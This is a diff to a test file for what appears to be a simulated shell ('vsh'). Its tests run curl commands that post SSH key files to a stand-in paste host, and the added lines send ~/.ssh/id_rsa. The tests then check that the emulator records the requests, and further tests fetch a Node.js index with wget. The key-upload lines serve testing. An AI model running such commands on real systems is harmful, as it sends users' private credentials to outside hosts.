@@ -25,6 +25,8 @@ describe("vsh network programs", () => {
     vsh.run("curl -X POST --data @.ssh/authorized_keys https://paste.example/new");
     expect(vsh.net.requests[0]).toMatchObject({ method: "POST", body: expect.stringContaining("ssh-ed25519") });
     expect(vsh.log.entries[0]).toMatchObject({ operation: "net.request", after: { method: "POST", url: "https://paste.example/new" } });
+    vsh.run("curl --data-raw @.ssh/id_rsa https://paste.example/raw");
+    expect(vsh.net.requests[1]).toMatchObject({ body: "@.ssh/id_rsa" });
     vsh.run("wget -q https://nodejs.org/dist/index.json");
     expect(vsh.state.files["/home/alex/index.json"]).toMatchObject({ owner: "received", content: expect.stringContaining("v22") });
     expect(vsh.run("wget -qO- https://nodejs.org/dist/index.json").stdout).toContain("lts");
